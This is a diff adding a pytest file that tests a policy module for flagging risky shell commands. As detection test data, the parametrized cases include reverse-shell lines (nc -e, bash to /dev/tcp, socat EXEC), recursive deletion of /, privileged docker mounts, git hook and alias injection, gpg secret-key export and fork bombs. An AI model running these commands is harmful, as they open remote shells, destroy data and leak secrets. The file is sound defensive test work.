@@ -1,0 +1,153 @@
+"""Options that make ordinary programs dangerous, read from argv (``policy.risky``)."""
+
+from __future__ import annotations
+
+import pytest
+
+from tenantry.safety.policy import risky
+from tenantry.safety.policy.unwrap import SHELLS, analyze_shell
+
+
+@pytest.mark.parametrize(
+    ("args", "starts"),
+    [
+        (["/", "-delete"], ["/"]),
+        (["-L", "/", "-delete"], ["/"]),
+        (["-D", "tree", "-O2", "~", "/tmp", "-name", "x"], ["~", "/tmp"]),
+        (["-name", "x", "-delete"], []),
+        (["a", "(", "-name", "x", ")"], ["a"]),
+        (["a", "!", "-name", "x"], ["a"]),
+    ],
+)
+def test_find_start_points(args: list[str], starts: list[str]) -> None:
+    assert [args[i] for i in risky.find_starts(args)] == starts
+
+
+@pytest.mark.parametrize(
+    ("args", "deletes"),
+    [
+        (["/", "-delete"], True),
+        ([".", "-exec", "rm", "-f", "{}", "+"], True),
+        ([".", "-execdir", "/bin/shred", "-u", "{}", ";"], True),
+        ([".", "-exec", "grep", "rm", "{}", ";"], False),
+        ([".", "-name", "rm"], False),
+    ],
+)
+def test_find_deletes(args: list[str], deletes: bool) -> None:
+    assert risky.find_deletes(args) is deletes
+
+
+def test_find_listing_files_are_written() -> None:
+    assert risky.find_written([".", "-fprint", "out.txt", "-fls", "ls.txt"]) == [
+        "out.txt",
+        "ls.txt",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("line", "remote"),
+    [
+        ("nc -e /bin/sh h 1", True),
+        ("ncat --sh-exec=/bin/sh h 1", True),
+        ("nc -zv h 22", False),
+        ("socat TCP4:h:1 EXEC:sh", True),
+        ("socat OPENSSL:h:443 SYSTEM:id", True),
+        ("socat EXEC:ls STDOUT", False),
+        ("socat - TCP:h:80", False),
+        ("bash -i >& /dev/tcp/h/1 0>&1", True),
+        ("bash run.sh > /dev/udp/h/1", True),
+        ("bash run.sh > out.txt", False),
+        ("cat x > /dev/tcp/h/1", False),  # no shell: the content is judged as a read
+    ],
+)
+def test_remote_shells(line: str, remote: bool) -> None:
+    eff = analyze_shell(line, variables={}, cwd="/tmp", read_scripts=False).commands[0]
+    words = [w.text for _, w in eff.redirects]
+    assert risky.remote_shell(eff.program, eff.argv[1:], words, SHELLS) is remote
+
+
+@pytest.mark.parametrize(
+    ("argv", "privileged"),
+    [
+        ("docker run --privileged x", True),
+        ("docker run --privileged=false x", False),
+        ("podman create --cap-add NET_ADMIN x", True),
+        ("docker run --pid=host x", True),
+        ("docker run --pid host x", True),
+        ("docker run --security-opt seccomp=unconfined x", True),
+        ("docker run --security-opt=no-new-privileges x", False),
+        ("docker run -v /:/h x", True),
+        ("docker run -v/etc:/h x", True),
+        ("docker run --volume=/run/docker.sock:/s x", True),
+        ("docker run --mount type=bind,src=/,dst=/h x", True),
+        ("docker run -v ./data:/data x", False),
+        ("docker container run -v /:/h x", True),
+        ("docker exec --privileged c sh", True),
+        ("docker ps -a", False),
+        ("docker build -t x .", False),
+        ("apptainer exec --bind /:/h img.sif sh", False),  # unprivileged by design
+    ],
+)
+def test_privileged_containers(argv: str, privileged: bool) -> None:
+    prog, *args = argv.split()
+    assert risky.privileged_container(prog, args) is privileged
+
+
+@pytest.mark.parametrize(
+    ("args", "written"),
+    [
+        (["--global", "core.hooksPath", "/t"], "/home/a/.gitconfig"),
+        (["--system", "core.pager", "x"], "/etc/gitconfig"),
+        (["--file", "cfg", "core.sshCommand", "x"], "/w/cfg"),
+        (["--file=/abs/cfg", "core.editor", "x"], "/abs/cfg"),
+        (["core.fsmonitor", "./x"], "/w/.git/config"),
+        (["set", "core.hooksPath", "/t"], "/w/.git/config"),
+        (["alias.x", "!sh -c id"], "/w/.git/config"),
+        (["alias.st", "status"], None),
+        (["filter.lfs.smudge", "x"], "/w/.git/config"),
+        (["includeIf.gitdir:~/w/.path", "/t/c"], "/w/.git/config"),
+        (["user.name", "A"], None),
+        (["--get", "core.hooksPath"], None),
+        (["--list"], None),
+        (["core.hooksPath"], None),  # a read of one key
+    ],
+)
+def test_git_config_files(args: list[str], written: str | None) -> None:
+    assert risky.git_config_file(args, "/w", "/home/a") == written
+
+
+def test_git_subcommand_after_global_options() -> None:
+    assert risky.git_subcommand(["-C", "repo", "-c", "a=b", "config", "x"], "/w") == (4, "/w/repo")
+    assert risky.git_subcommand(["--no-pager", "status"], "/w") == (1, "/w")
+    assert risky.git_subcommand(["--version"], "/w") == (-1, "/w")
+
+
+def test_gpg_secret_exports() -> None:
+    assert risky.gpg_secret_export("gpg", ["--export-secret-keys"], "/h") == (
+        "/h/.gnupg/private-keys-v1.d"
+    )
+    assert risky.gpg_secret_export("gpg2", ["--armor", "--export-secret-subkeys=K"], "/h")
+    assert risky.gpg_secret_export("gpg", ["--export", "K"], "/h") is None
+    assert risky.gpg_secret_export("gpgv", ["--export-secret-keys"], "/h") is None
+
+
+def test_a_redirect_keeps_its_path_before_the_next_descriptor() -> None:
+    eff = analyze_shell(
+        "bash -i > /dev/tcp/h/1 0<&1 2>&1", variables={}, cwd="/tmp", read_scripts=False
+    ).commands[0]
+    assert [(op, w.text) for op, w in eff.redirects] == [(">", "/dev/tcp/h/1")]
+
+
+@pytest.mark.parametrize(
+    ("line", "bomb"),
+    [
+        (":(){ :|:& };:", True),
+        ("b(){ b & b; }; b", True),
+        ("f(){ g | h; }; f", False),
+        ("f(){ f; }; f", False),  # recursion without a fork: not a bomb
+        ("f(){ echo x | wc; }; f", False),
+    ],
+)
+def test_fork_bombs_are_uncertain(line: str, bomb: bool) -> None:
+    a = analyze_shell(line, variables={}, cwd="/tmp", read_scripts=False)
+    assert ("recursion" in {k for k, _ in a.uncertain}) is bomb
